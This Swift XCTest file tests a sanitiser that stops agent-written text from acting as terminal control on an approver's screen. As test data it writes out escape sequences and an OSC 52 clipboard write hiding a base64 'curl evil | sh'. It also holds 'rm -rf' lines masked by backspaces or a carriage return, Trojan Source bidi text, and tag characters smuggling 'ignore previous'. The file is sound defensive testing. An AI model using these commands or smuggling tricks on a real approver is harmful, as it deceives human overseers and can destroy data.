import XCTest

@testable import TollgateCore

/// The sanitiser is a security boundary: agent-written text must never reach the approver's
/// terminal as control. Each hostile class gets its own test, and a seeded fuzz run checks the
/// invariants over random mixtures of all of them.
final class TextSanitizerTests: XCTestCase {
    private let ascii = SanitizeOptions(asciiOnly: true)

    // MARK: - Escape sequences

    func testCSIClearScreenLosesItsEscapeAndIsDimmed() {
        let glyphs = TextSanitizer.singleLine("\u{1B}[2Jok")
        XCTAssertEqual(glyphs.map(\.text), ["␛", "[", "2", "J", "o", "k"])
        XCTAssertEqual(glyphs.map(\.isPlaceholder), [true, true, true, true, false, false])
        assertTerminalSafe(TextSanitizer.safeString("\u{1B}[2J\u{1B}[H\u{1B}[3J"))
    }

    func testColourSequencesAroundTextLeaveTheTextPlain() {
        let glyphs = TextSanitizer.singleLine("\u{1B}[1;31mred\u{1B}[0m")
        XCTAssertEqual(text(glyphs), "␛[1;31mred␛[0m")
        XCTAssertEqual(glyphs.filter { !$0.isPlaceholder }.map(\.text).joined(), "red")
    }

    func testWindowTitleOSCEndedByBEL() {
        let glyphs = TextSanitizer.singleLine("\u{1B}]0;pwned\u{07}after")
        XCTAssertEqual(text(glyphs), "␛]0;pwned␇after")
        XCTAssertEqual(glyphs.filter { !$0.isPlaceholder }.map(\.text).joined(), "after")
        assertTerminalSafe(text(glyphs))
    }

    func testClipboardOSC52EndedByST() {
        let s = TextSanitizer.safeString("\u{1B}]52;c;Y3VybCBldmlsIHwgc2g=\u{1B}\\rest")
        XCTAssertEqual(s, "␛]52;c;Y3VybCBldmlsIHwgc2g=␛\\rest")
        assertTerminalSafe(s)
    }

    func testHyperlinkOSC8ShowsTheTargetAndDimsOnlyTheSequences() {
        let glyphs = TextSanitizer.singleLine("\u{1B}]8;;https://evil.example/x\u{1B}\\docs\u{1B}]8;;\u{1B}\\")
        XCTAssertEqual(text(glyphs), "␛]8;;https://evil.example/x␛\\docs␛]8;;␛\\")
        XCTAssertEqual(glyphs.filter { !$0.isPlaceholder }.map(\.text).joined(), "docs")
    }

    func testDeviceControlAndPrivacyStringsAreInert() {
        let inputs = [
            "\u{1B}P1$r0m\u{1B}\\", "\u{1B}_apc payload\u{1B}\\", "\u{1B}^pm payload\u{1B}\\",
            "\u{1B}Xsos payload\u{1B}\\", "\u{1B}P+q544e\u{07}", "\u{1B}c", "\u{1B}(0", "\u{1B}#8", "\u{1B}7\u{1B}8",
        ]
        for input in inputs {
            let glyphs = TextSanitizer.singleLine(input + "z")
            assertTerminalSafe(text(glyphs))
            XCTAssertTrue(glyphs.dropLast().allSatisfy(\.isPlaceholder), input.debugDescription)
            XCTAssertEqual(glyphs.last, DisplayGlyph(text: "z", width: 1), input.debugDescription)
        }
    }

    func testEightBitC1IntroducersBecomeCodePoints() {
        XCTAssertEqual(TextSanitizer.safeString("\u{9B}2J"), "⟨U+009B⟩2J")
        XCTAssertEqual(TextSanitizer.safeString("\u{9D}0;t\u{9C}x"), "⟨U+009D⟩0;t⟨U+009C⟩x")
        for value in UInt32(0x80)...0x9F {
            let s = TextSanitizer.safeString(String(hostileScalar(value)))
            XCTAssertEqual(s, "⟨U+00\(String(value, radix: 16, uppercase: true))⟩")
            assertTerminalSafe(s)
        }
        XCTAssertTrue(TextSanitizer.singleLine("\u{9B}31mx").dropLast().allSatisfy(\.isPlaceholder))
    }

    func testAnEscapeSequenceDoesNotOutliveItsLine() {
        let lines = TextSanitizer.lines("\u{1B}]0;unterminated\nnext")
        XCTAssertEqual(lines.count, 2)
        XCTAssertTrue(lines[1].allSatisfy { !$0.isPlaceholder })
    }

    // MARK: - C0 controls and line breaks

    func testEveryC0ControlBecomesAControlPicture() {
        for value in UInt32(0)..<0x20 where value != 0x09 && !(0x0A...0x0D).contains(value) {
            let s = TextSanitizer.safeString(String(hostileScalar(value)))
            XCTAssertEqual(s, String(hostileScalar(0x2400 + value)))
            assertTerminalSafe(s)
        }
        XCTAssertEqual(TextSanitizer.safeString("a\u{7F}b"), "a␡b")
        XCTAssertEqual(TextSanitizer.safeString("bell\u{07}\u{00}"), "bell␇␀")
    }

    func testBackspaceOverwriteIsVisible() {
        let s = TextSanitizer.safeString("rm -rf /\u{08}\u{08}\u{08}\u{08}\u{08}\u{08}\u{08}\u{08}ls")
        XCTAssertEqual(s, "rm -rf /␈␈␈␈␈␈␈␈ls")
    }

    func testCarriageReturnCannotHideWhatCameBefore() {
        let hostile = "echo safe\rrm -rf ~"
        XCTAssertEqual(TextSanitizer.lines(hostile).map(text), ["echo safe", "rm -rf ~"])
        XCTAssertEqual(TextSanitizer.safeString(hostile), "echo safe↵rm -rf ~")
    }

    func testEveryKindOfLineBreakEndsALine() {
        let lines = TextSanitizer.lines("a\nb\r\nc\rd\u{0B}e\u{0C}f\u{2028}g\u{2029}h")
        XCTAssertEqual(lines.map(text), ["a", "b", "c", "d", "e", "f", "g", "h"])
    }

    func testLineCountingAtTheEdges() {
        XCTAssertEqual(TextSanitizer.lines("").map(text), [""])
        XCTAssertEqual(TextSanitizer.lines("a\n").map(text), ["a"])
        XCTAssertEqual(TextSanitizer.lines("a\r\n").map(text), ["a"])
        XCTAssertEqual(TextSanitizer.lines("\n").map(text), [""])
        XCTAssertEqual(TextSanitizer.lines("a\n\n").map(text), ["a", ""])
        XCTAssertEqual(TextSanitizer.lines("a\n\nb").map(text), ["a", "", "b"])
        XCTAssertEqual(TextSanitizer.lines("a\r\rb").map(text), ["a", "", "b"])
        XCTAssertEqual(TextSanitizer.lines("a\nb\nc", maxLines: 2).map(text), ["a", "b"])
        XCTAssertEqual(TextSanitizer.lines("a\nb", maxLines: 0).count, 0)
    }

    func testSingleLineShowsEachBreakOnce() {
        XCTAssertEqual(TextSanitizer.safeString("a\r\nb\nc\u{2028}d"), "a↵b↵c↵d")
        XCTAssertEqual(TextSanitizer.safeString("a\r\nb", options: ascii), "a\\nb")
        XCTAssertTrue(TextSanitizer.singleLine("a\nb")[1].isPlaceholder)
    }

    func testNextLineIsAControlNotABreak() {
        XCTAssertEqual(TextSanitizer.lines("a\u{85}b").map(text), ["a⟨U+0085⟩b"])
    }

    func testSubstringInput() {
        let whole = "xx\u{1B}[2Jyy"
        let middle = whole.dropFirst(2).dropLast(2)
        XCTAssertEqual(TextSanitizer.singleLine(middle).map(\.text).joined(), "␛[2J")
        XCTAssertEqual(TextSanitizer.lines(middle).count, 1)
    }

    // MARK: - Tabs

    func testTabsExpandToTabStops() {
        XCTAssertEqual(TextSanitizer.safeString("a\tb"), "a   b")
        XCTAssertEqual(TextSanitizer.safeString("\tx"), "    x")
        XCTAssertEqual(TextSanitizer.safeString("abcd\tx"), "abcd    x")
        XCTAssertEqual(TextSanitizer.safeString("中\tx"), "中  x")
        XCTAssertEqual(TextSanitizer.safeString("a\tb", options: SanitizeOptions(tabWidth: 8)), "a       b")
        XCTAssertEqual(TextSanitizer.lines("x\n\ty").map(text), ["x", "    y"])
        let tab = TextSanitizer.singleLine("\t")
        XCTAssertTrue(tab.allSatisfy { $0 == .space })
    }

    func testHostileTabWidthsAreClamped() {
        XCTAssertEqual(TextSanitizer.safeString("a\tb", options: SanitizeOptions(tabWidth: 0)), "a b")
        XCTAssertEqual(TextSanitizer.safeString("a\tb", options: SanitizeOptions(tabWidth: -7)), "a b")
        let wide = TextSanitizer.singleLine("\t", options: SanitizeOptions(tabWidth: Int.max))
        XCTAssertEqual(wide.count, 32)
    }

    // MARK: - Bidi and invisibles

    func testEveryBidiControlIsNamed() {
        let names: [UInt32: String] = [
            0x061C: "ALM", 0x200E: "LRM", 0x200F: "RLM", 0x202A: "LRE", 0x202B: "RLE", 0x202C: "PDF",
            0x202D: "LRO", 0x202E: "RLO", 0x2066: "LRI", 0x2067: "RLI", 0x2068: "FSI", 0x2069: "PDI",
        ]
        for (value, name) in names {
            XCTAssertEqual(TextSanitizer.safeString("x" + String(hostileScalar(value)) + "y"), "x⟨\(name)⟩y")
            XCTAssertEqual(TextSanitizer.safeString(String(hostileScalar(value)), options: ascii), "<\(name)>")
        }
    }

    func testTrojanSourceReadsInStoredOrder() {
        let hostile = "access = \"user\u{202E} \u{2066}// admin\u{2069} \u{2066}\""
        let s = TextSanitizer.safeString(hostile)
        XCTAssertEqual(s, "access = \"user⟨RLO⟩ ⟨LRI⟩// admin⟨PDI⟩ ⟨LRI⟩\"")
        assertTerminalSafe(s)
    }

    func testInvisiblesAreShown() {
        let expected: [UInt32: String] = [
            0x200B: "⟨ZWSP⟩", 0x200C: "⟨ZWNJ⟩", 0x200D: "⟨ZWJ⟩", 0x2060: "⟨WJ⟩", 0x2061: "⟨U+2061⟩",
            0x2062: "⟨U+2062⟩", 0x2063: "⟨U+2063⟩", 0x2064: "⟨U+2064⟩", 0xFEFF: "⟨BOM⟩", 0x00AD: "⟨SHY⟩",
            0x180E: "⟨MVS⟩", 0x034F: "⟨CGJ⟩", 0x115F: "⟨U+115F⟩", 0x1160: "⟨U+1160⟩", 0x3164: "⟨U+3164⟩",
            0xFFA0: "⟨U+FFA0⟩", 0xFFF9: "⟨U+FFF9⟩", 0xFFFA: "⟨U+FFFA⟩", 0xFFFB: "⟨U+FFFB⟩", 0x17B4: "⟨U+17B4⟩",
            0x180B: "⟨U+180B⟩", 0x206A: "⟨U+206A⟩", 0xE0001: "⟨U+E0001⟩", 0x1D173: "⟨U+1D173⟩",
        ]
        for (value, placeholder) in expected {
            let s = TextSanitizer.safeString("a" + String(hostileScalar(value)) + "b")
            XCTAssertEqual(s, "a\(placeholder)b", String(value, radix: 16))
            assertTerminalSafe(s)
        }
    }

    func testSpacesThatAreNotSpacesAreShown() {
        XCTAssertEqual(TextSanitizer.safeString("rm\u{00A0}-rf"), "rm⟨NBSP⟩-rf")
        XCTAssertEqual(TextSanitizer.safeString("a\u{2009}b\u{202F}c\u{205F}d\u{1680}e"), "a⟨U+2009⟩b⟨NNBSP⟩c⟨U+205F⟩d⟨U+1680⟩e")
        let ideographic = TextSanitizer.singleLine("日\u{3000}本")
        XCTAssertEqual(ideographic.map(\.width), [2, 2, 2])
        XCTAssertFalse(ideographic[1].isPlaceholder)
    }

    func testTagCharactersRevealTheTextTheySmuggle() {
        let s = TextSanitizer.safeString("ok" + tags("ignore previous") + "!")
        XCTAssertEqual(s, "ok⟨TAG:ignore previous⟩!")
        XCTAssertEqual(TextSanitizer.safeString(tags("hi") + "x", options: ascii), "<TAG:hi>x")
        XCTAssertEqual(TextSanitizer.safeString("a" + tags("x") + "\u{E007F}"), "a⟨TAG:x⟩⟨CANCEL TAG⟩")
    }

    func testSubdivisionFlagsKeepTheirTags() {
        for code in ["gbeng", "gbsct", "gbwls"] {
            let flag = "\u{1F3F4}" + tags(code) + "\u{E007F}"
            let glyphs = TextSanitizer.singleLine(flag + "x")
            XCTAssertEqual(glyphs.count, 2)
            XCTAssertEqual(glyphs[0], DisplayGlyph(text: flag, width: 2))
        }
        XCTAssertEqual(
            TextSanitizer.safeString("\u{1F3F4}" + tags("evil") + "\u{E007F}"),
            "\u{1F3F4}⟨TAG:evil⟩⟨CANCEL TAG⟩")
        XCTAssertEqual(
            TextSanitizer.safeString("\u{1F3F4}" + tags("gbengx") + "\u{E007F}"),
            "\u{1F3F4}⟨TAG:gbengx⟩⟨CANCEL TAG⟩")
        XCTAssertEqual(TextSanitizer.safeString("\u{1F3F4}" + tags("gbeng")), "\u{1F3F4}⟨TAG:gbeng⟩")
    }

    // MARK: - Private use, unassigned, replacement character

    func testPrivateUseAndUnassignedAreShownByCodePoint() {
        XCTAssertEqual(TextSanitizer.safeString("\u{E000}\u{F8FF}"), "⟨U+E000⟩⟨U+F8FF⟩")
        XCTAssertEqual(TextSanitizer.safeString("\u{F0000}\u{10FFFD}"), "⟨U+F0000⟩⟨U+10FFFD⟩")
        XCTAssertEqual(TextSanitizer.safeString("\u{378}"), "⟨U+0378⟩")
        let nonCharacters = String(String.UnicodeScalarView(hostileScalars([0xFFFF, 0xFDD0, 0x1FFFE])))
        XCTAssertEqual(TextSanitizer.safeString(nonCharacters), "⟨U+FFFF⟩⟨U+FDD0⟩⟨U+1FFFE⟩")
    }

    func testReplacementCharacterFromBadUTF8IsVisible() {
        let decoded = String(decoding: [0x61, 0xFF, 0xC0, 0x62] as [UInt8], as: UTF8.self)
        let glyphs = TextSanitizer.singleLine(decoded)
        XCTAssertEqual(glyphs.map(\.text), ["a", "\u{FFFD}", "\u{FFFD}", "b"])
        XCTAssertEqual(glyphs.map(\.width), [1, 1, 1, 1])
        XCTAssertEqual(TextSanitizer.safeString("\u{FFFD}", options: ascii), "<U+FFFD>")
    }

    // MARK: - Combining marks, emoji, Hangul

    func testZalgoKeepsTwoMarksAndCountsTheRest() {
        let zalgo = "e" + String(repeating: "\u{301}", count: 50) + "x"
        XCTAssertEqual(TextSanitizer.safeString(zalgo), "e\u{301}\u{301}⟨+48 marks⟩x")
        let glyphs = TextSanitizer.singleLine(zalgo)
        XCTAssertEqual(glyphs[0], DisplayGlyph(text: "e\u{301}\u{301}", width: 1))
        XCTAssertEqual(
            TextSanitizer.safeString(zalgo, options: SanitizeOptions(maxCombiningPerCluster: 0)), "e⟨+50 marks⟩x")
        XCTAssertEqual(
            TextSanitizer.safeString("a\u{300}\u{301}\u{302}", options: SanitizeOptions(maxCombiningPerCluster: 2)),
            "a\u{300}\u{301}⟨+1 mark⟩")
    }

    func testMarksAfterWideAndEmojiBasesStayOnThem() {
        let glyphs = TextSanitizer.singleLine("中\u{301}x")
        XCTAssertEqual(glyphs.map(\.width), [2, 1])
        XCTAssertEqual(glyphs[0].text, "中\u{301}")
    }

    func testOrphanedMarksGetADottedCircle() {
        let glyphs = TextSanitizer.singleLine("\u{301}a")
        XCTAssertEqual(glyphs[0], DisplayGlyph(text: "◌\u{301}", width: 1, isPlaceholder: true))
        XCTAssertEqual(TextSanitizer.safeString("\u{200B}\u{301}"), "⟨ZWSP⟩◌\u{301}")
        XCTAssertEqual(TextSanitizer.safeString("\t\u{301}"), "    ◌\u{301}")
        XCTAssertEqual(TextSanitizer.lines("a\n\u{20DD}").map(text), ["a", "◌\u{20DD}"])
    }

    func testVariationSelectorsAttachOrAreShown() {
        let heart = TextSanitizer.singleLine("\u{2764}\u{FE0F}")
        XCTAssertEqual(heart, [DisplayGlyph(text: "\u{2764}\u{FE0F}", width: 2)])
        XCTAssertEqual(TextSanitizer.singleLine("\u{2764}").map(\.width), [1])
        XCTAssertEqual(TextSanitizer.safeString("\u{FE0F}x"), "⟨VS16⟩x")
        XCTAssertEqual(TextSanitizer.safeString("\u{202E}\u{FE0E}"), "⟨RLO⟩⟨VS15⟩")
        XCTAssertEqual(TextSanitizer.safeString("\u{E0100}"), "⟨VS17⟩")
        XCTAssertEqual(TextSanitizer.singleLine("a\u{FE0F}"), [DisplayGlyph(text: "a\u{FE0F}", width: 1)])
        XCTAssertEqual(TextSanitizer.singleLine("1\u{FE0F}\u{20E3}"), [DisplayGlyph(text: "1\u{FE0F}\u{20E3}", width: 2)])
    }

    func testEmojiZWJSequencesStayWhole() {
        let family = "\u{1F468}\u{200D}\u{1F469}\u{200D}\u{1F467}"
        XCTAssertEqual(TextSanitizer.singleLine(family), [DisplayGlyph(text: family, width: 2)])
        let kiss = "\u{1F9D1}\u{1F3FB}\u{200D}\u{2764}\u{FE0F}\u{200D}\u{1F48B}\u{200D}\u{1F9D1}\u{1F3FC}"
        XCTAssertEqual(TextSanitizer.singleLine(kiss), [DisplayGlyph(text: kiss, width: 2)])
        let rainbow = "\u{1F3F3}\u{FE0F}\u{200D}\u{1F308}"
        XCTAssertEqual(TextSanitizer.singleLine(rainbow), [DisplayGlyph(text: rainbow, width: 2)])
    }

    func testJoinersOutsideEmojiSequencesAreShown() {
        XCTAssertEqual(TextSanitizer.safeString("a\u{200D}b"), "a⟨ZWJ⟩b")
        XCTAssertEqual(TextSanitizer.safeString("\u{1F468}\u{200D}"), "\u{1F468}⟨ZWJ⟩")
        XCTAssertEqual(TextSanitizer.safeString("\u{1F468}\u{200D}x"), "\u{1F468}⟨ZWJ⟩x")
        XCTAssertEqual(TextSanitizer.safeString("\u{200D}\u{1F468}"), "⟨ZWJ⟩\u{1F468}")
        XCTAssertEqual(TextSanitizer.safeString("\u{1F468}\u{200D}\u{200D}\u{1F469}"), "\u{1F468}⟨ZWJ⟩⟨ZWJ⟩\u{1F469}")
    }

    func testEndlessZWJChainsAreCut() {
        let person = "\u{1F468}"
        let chain = Array(repeating: person, count: 7).joined(separator: "\u{200D}")
        let glyphs = TextSanitizer.singleLine(chain)
        let firstFive = Array(repeating: person, count: 5).joined(separator: "\u{200D}")
        XCTAssertEqual(glyphs[0], DisplayGlyph(text: firstFive, width: 2))
        XCTAssertEqual(TextSanitizer.safeString(chain), firstFive + "⟨ZWJ⟩" + person + "\u{200D}" + person)
    }

    func testSkinTonesAndFlags() {
        XCTAssertEqual(TextSanitizer.singleLine("\u{1F44D}\u{1F3FD}"), [DisplayGlyph(text: "\u{1F44D}\u{1F3FD}", width: 2)])
        XCTAssertEqual(TextSanitizer.singleLine("\u{261D}\u{1F3FD}"), [DisplayGlyph(text: "\u{261D}\u{1F3FD}", width: 2)])
        XCTAssertEqual(TextSanitizer.singleLine("a\u{1F3FD}").map(\.width), [1, 2])
        let flags = TextSanitizer.singleLine("\u{1F1EB}\u{1F1F7}\u{1F1E9}\u{1F1EA}\u{1F1EF}")
        XCTAssertEqual(flags.map(\.text), ["\u{1F1EB}\u{1F1F7}", "\u{1F1E9}\u{1F1EA}", "\u{1F1EF}"])
        XCTAssertEqual(flags.map(\.width), [2, 2, 1])
    }

    func testHangulConjoiningJamoFormOneWideCluster() {
        XCTAssertEqual(TextSanitizer.singleLine("\u{1100}\u{1161}\u{11A8}"), [DisplayGlyph(text: "\u{1100}\u{1161}\u{11A8}", width: 2)])
        XCTAssertEqual(TextSanitizer.singleLine("\u{AC00}\u{11A8}"), [DisplayGlyph(text: "\u{AC00}\u{11A8}", width: 2)])
        XCTAssertEqual(TextSanitizer.singleLine("한국어").map(\.width), [2, 2, 2])
        XCTAssertEqual(TextSanitizer.safeString("a\u{1161}"), "a◌\u{1161}")
        XCTAssertEqual(TextSanitizer.safeString("\u{AC01}\u{11A8}"), "\u{AC01}◌\u{11A8}")
    }

    func testSpacingMarksTakeTheirOwnColumn() {
        let glyphs = TextSanitizer.singleLine("\u{915}\u{93F}")
        XCTAssertEqual(glyphs.map(\.width), [1, 1])
        XCTAssertEqual(text(glyphs), "\u{915}\u{93F}")
    }

    // MARK: - ASCII terminals

    func testASCIIModeSpellsEverythingInPrintableASCII() {
        let cases: [(String, String)] = [
            ("\u{1B}[2J", "^[[2J"), ("\u{00}\u{07}\u{7F}", "^@^G^?"), ("\u{9B}", "<U+009B>"),
            ("\u{202E}", "<RLO>"), ("\u{E9}", "<U+00E9>"), ("e\u{301}", "e<U+0301>"), ("中", "<U+4E2D>"),
            ("\u{301}a", "<U+0301>a"), ("\u{FE0F}", "<VS16>"), ("\u{1F3F3}\u{FE0F}", "<U+1F3F3><VS16>"),
            ("\u{1F468}\u{200D}\u{1F469}", "<U+1F468><ZWJ><U+1F469>"), ("\u{E000}", "<U+E000>"),
            ("e" + String(repeating: "\u{301}", count: 50), "e<U+0301><U+0301><+48 marks>"),
            ("a\tb", "a   b"), ("x\u{A0}y", "x<NBSP>y"),
        ]
        for (input, expected) in cases {
            XCTAssertEqual(TextSanitizer.safeString(input, options: ascii), expected, input.debugDescription)
            assertTerminalSafe(TextSanitizer.safeString(input, options: ascii), asciiOnly: true)
        }
    }

    func testASCIIModePlaceholdersAreMarked() {
        let glyphs = TextSanitizer.singleLine("x\u{E9}", options: ascii)
        XCTAssertFalse(glyphs[0].isPlaceholder)
        XCTAssertTrue(glyphs.dropFirst().allSatisfy { $0.isPlaceholder && $0.width == 1 })
    }

    // MARK: - Size limits

    func testMegabyteLineOfPlainText() {
        let line = String(repeating: "a", count: 1 << 20)
        XCTAssertEqual(TextSanitizer.singleLine(line).count, 1 << 20)
        let cut = TextSanitizer.singleLine(line, maxColumns: 80)
        XCTAssertEqual(cut.count, 81)
        XCTAssertEqual(TextLayout.fit(cut, width: 80).last?.text, "…")
    }

    func testMegabyteOfCombiningMarksOnOneBase() {
        let storm = "a" + String(repeating: "\u{301}", count: 1 << 20)
        let s = TextSanitizer.safeString(storm)
        XCTAssertEqual(s, "a\u{301}\u{301}⟨+\((1 << 20) - 2) marks⟩")
    }

    func testMegabyteOfHostileSequences() {
        let chunk = "\u{1B}[31m\u{202E}\u{200B}x\u{0}\u{9B}"
        let hostile = String(repeating: chunk, count: (1 << 20) / chunk.utf8.count)
        assertTerminalSafe(TextSanitizer.safeString(hostile))
        let lines = TextSanitizer.lines(hostile + "\n" + hostile, maxColumns: 40)
        XCTAssertEqual(lines.count, 2)
        for line in lines {
            XCTAssertGreaterThan(width(line), 40)
            XCTAssertLessThan(width(line), 60)
            assertTerminalSafe(text(line))
        }
    }

    func testMaxColumnsKeepsTheLineAPrefixOfTheWholeLine() {
        let input = "ab\u{301}c中d\u{1F468}\u{200D}\u{1F469}e" + tags("hidden") + "f"
        let whole = TextSanitizer.singleLine(input)
        for limit in -1...(width(whole) + 2) {
            let cut = TextSanitizer.singleLine(input, maxColumns: limit)
            XCTAssertEqual(cut, Array(whole.prefix(cut.count)), "limit \(limit)")
            if width(whole) > max(0, limit) {
                XCTAssertGreaterThan(width(cut), max(0, limit), "limit \(limit)")
            } else {
                XCTAssertEqual(cut, whole, "limit \(limit)")
            }
        }
    }

    func testMaxColumnsStillFindsEveryLine() {
        let input = String(repeating: "x", count: 5000) + "\nsecond\r\nthird"
        let lines = TextSanitizer.lines(input, maxColumns: 10)
        XCTAssertEqual(lines.map(text), ["xxxxxxxxxxx", "second", "third"])
    }

    // MARK: - Fuzz

    /// Random mixtures of every hostile class: output is terminal-safe in both modes, widths
    /// agree with `DisplayWidth`, and limited output is a prefix of the whole.
    func testRandomHostileTextIsAlwaysSafeAndMeasuredConsistently() {
        var random = TextFuzzGenerator(seed: 0x7011_6A7E)
        for round in 0..<3000 {
            let input = randomHostileText(&random)
            let options = SanitizeOptions(
                asciiOnly: random.next() % 4 == 0,
                tabWidth: Int(random.next() % 9),
                maxCombiningPerCluster: Int(random.next() % 4))
            let context = "round \(round): \(input.unicodeScalars.map { String($0.value, radix: 16) })"

            let glyphs = TextSanitizer.singleLine(input, options: options)
            assertTerminalSafe(
                text(glyphs), asciiOnly: options.asciiOnly,
                maxCombining: options.maxCombiningPerCluster, context)
            assertGlyphsWellFormed(glyphs, context)
            XCTAssertEqual(DisplayWidth.of(text(glyphs)), width(glyphs), context)

            for line in TextSanitizer.lines(input, options: options) {
                assertTerminalSafe(
                    text(line), asciiOnly: options.asciiOnly,
                    maxCombining: options.maxCombiningPerCluster, context)
                assertGlyphsWellFormed(line, context)
            }

            let limit = Int(random.next() % 12)
            let cut = TextSanitizer.singleLine(input, options: options, maxColumns: limit)
            XCTAssertEqual(cut, Array(glyphs.prefix(cut.count)), context)
            XCTAssertTrue(width(cut) > limit || cut == glyphs, context)
        }
    }

    // MARK: - Helpers

    private func text(_ glyphs: [DisplayGlyph]) -> String { glyphs.map(\.text).joined() }

    private func width(_ glyphs: [DisplayGlyph]) -> Int { glyphs.reduce(0) { $0 + $1.width } }

    private func tags(_ ascii: String) -> String {
        String(String.UnicodeScalarView(ascii.unicodeScalars.compactMap { Unicode.Scalar(0xE0000 + $0.value) }))
    }

    private func assertGlyphsWellFormed(
        _ glyphs: [DisplayGlyph], _ context: String,
        file: StaticString = #filePath, line: UInt = #line
    ) {
        for glyph in glyphs {
            XCTAssertFalse(glyph.text.isEmpty, context, file: file, line: line)
            XCTAssertTrue((1...2).contains(glyph.width), context, file: file, line: line)
            XCTAssertEqual(DisplayWidth.of(glyph.text), glyph.width, context, file: file, line: line)
        }
    }

    private func randomHostileText(_ random: inout TextFuzzGenerator) -> String {
        var scalars = String.UnicodeScalarView()
        for _ in 0..<Int(random.next() % 40) {
            let pool = hostilePool[Int(random.next() % UInt64(hostilePool.count))]
            scalars.append(pool[Int(random.next() % UInt64(pool.count))])
        }
        return String(scalars)
    }

    private let hostilePool: [[Unicode.Scalar]] = [
        hostileScalars(0x20...0x7E), hostileScalars(0x00...0x1F), [hostileScalar(0x7F)], hostileScalars(0x80...0x9F),
        [hostileScalar(0x1B), hostileScalar(0x1B), hostileScalar(0x5B), hostileScalar(0x5D), hostileScalar(0x5C), hostileScalar(0x07), hostileScalar(0x50)],
        hostileScalars([0x061C, 0x200E, 0x200F, 0x202A, 0x202B, 0x202C, 0x202D, 0x202E, 0x2066, 0x2067, 0x2068, 0x2069]),
        hostileScalars([
            0x200B, 0x200C, 0x200D, 0x200D, 0x2060, 0x2061, 0x2064, 0xFEFF, 0x00AD, 0x180E, 0x115F, 0x1160,
            0x3164, 0xFFA0, 0xFFF9, 0xFFFB, 0x034F, 0x2028, 0x2029, 0x0085, 0x00A0, 0x3000, 0x2009,
        ]),
        hostileScalars([0x0301, 0x0301, 0x0300, 0x0489, 0x20DD, 0x20E3, 0xFE0F, 0xFE0F, 0xFE0E, 0xE0100, 0x093F, 0x0915]),
        hostileScalars([0x1F468, 0x1F469, 0x1F467, 0x2764, 0x261D, 0x1F3F4, 0x1F3F3, 0x1F308, 0x1F44D, 0x0031, 0x00A9]),
        hostileScalars(0x1F3FB...0x1F3FF), hostileScalars(0x1F1E6...0x1F1EA),
        hostileScalars([0xE0067, 0xE0062, 0xE0065, 0xE006E, 0xE007F, 0xE0041, 0xE0001]),
        hostileScalars([0x1100, 0x1161, 0x11A8, 0xAC00, 0xAC01, 0x4E2D, 0xFF21, 0xFF71]),
        hostileScalars([0xE000, 0xF0000, 0x0378, 0xFFFF, 0xFDD0, 0xFFFD, 0x09, 0x0A, 0x0D, 0x0B]),
    ]
}

// MARK: - Shared test helpers

/// Asserts that text is safe to hand to a terminal: no C0 control (not even a newline or tab),
/// no DEL, no C1 control, no bidi control, no invisible or default-ignorable character (except
/// a joiner inside an emoji sequence, a variation selector on a base, tag characters inside a
/// subdivision flag), no format, private-use or unassigned code point, no space other than
/// U+0020 and U+3000, no combining mark without a base, and at most `maxCombining` marks in a
/// row. With `asciiOnly`, only printable ASCII.
func assertTerminalSafe(
    _ text: String, asciiOnly: Bool = false, maxCombining: Int = 2, _ context: String = "",
    file: StaticString = #filePath, line: UInt = #line
) {
    let scalars = Array(text.unicodeScalars)
    func fail(_ why: String, _ index: Int) {
        XCTFail(
            "\(why) U+\(String(scalars[index].value, radix: 16)) at \(index) in \(text.debugDescription) \(context)",
            file: file, line: line)
    }
    var marksInARow = 0
    var inSubdivisionFlag = false
    for (index, scalar) in scalars.enumerated() {
        let value = scalar.value
        if asciiOnly {
            if !(0x20...0x7E).contains(value) { fail("not printable ASCII", index) }
            continue
        }
        let properties = scalar.properties
        let category = properties.generalCategory
        let previous = index > 0 ? scalars[index - 1] : nil
        let next = index + 1 < scalars.count ? scalars[index + 1] : nil
        if value < 0x20 || (0x7F...0x9F).contains(value) { fail("control", index) }
        if [0x061C, 0x200E, 0x200F].contains(value) || (0x202A...0x202E).contains(value)
            || (0x2066...0x2069).contains(value)
        {
            fail("bidi control", index)
        }
        if value == 0x1F3F4 { inSubdivisionFlag = true }
        let isTag = (0xE0020...0xE007F).contains(value)
        if isTag {
            if !inSubdivisionFlag { fail("tag outside a flag", index) }
            if value == 0xE007F { inSubdivisionFlag = false }
        } else if value != 0x1F3F4 {
            inSubdivisionFlag = false
        }
        let isVariationSelector = (0xFE00...0xFE0F).contains(value) || (0xE0100...0xE01EF).contains(value)
        if value == 0x200D {
            let joinsEmoji =
                previous.map {
                    $0.properties.isEmoji || $0.properties.generalCategory == .nonspacingMark
                        || DisplayWidth.isEmojiModifier($0.value)
                } == true
                && next.map(DisplayWidth.isPictographic) == true
            if !joinsEmoji { fail("joiner outside an emoji sequence", index) }
        } else if isVariationSelector {
            if previous == nil || previous == " " { fail("variation selector without a base", index) }
        } else if !isTag && properties.isDefaultIgnorableCodePoint {
            fail("invisible", index)
        }
        switch category {
        case .format where !isTag && value != 0x200D,
            .privateUse, .unassigned, .surrogate, .lineSeparator, .paragraphSeparator:
            fail("format, private-use or unassigned", index)
        case .spaceSeparator where value != 0x20 && value != 0x3000:
            fail("space that is not a space", index)
        default:
            break
        }
        if category == .nonspacingMark || category == .enclosingMark {
            if index == 0 { fail("combining mark without a base", index) }
            if !isVariationSelector { marksInARow += 1 }
            if marksInARow > max(0, maxCombining) { fail("too many combining marks", index) }
        } else if !DisplayWidth.isConjoiningVowelOrFinal(value) {
            marksInARow = 0
        }
    }
}

/// A seeded generator, so a failing fuzz round can be replayed.
struct TextFuzzGenerator: RandomNumberGenerator {
    private var state: UInt64

    init(seed: UInt64) { state = seed }

    mutating func next() -> UInt64 {
        state &+= 0x9E37_79B9_7F4A_7C15
        var z = state
        z = (z ^ (z >> 30)) &* 0xBF58_476D_1CE4_E5B9
        z = (z ^ (z >> 27)) &* 0x94D0_49BB_1331_11EB
        return z ^ (z >> 31)
    }
}

func hostileScalar(_ value: UInt32) -> Unicode.Scalar {
    Unicode.Scalar(value) ?? "\u{FFFD}"
}

func hostileScalars(_ values: some Sequence<UInt32>) -> [Unicode.Scalar] {
    values.map(hostileScalar)
}
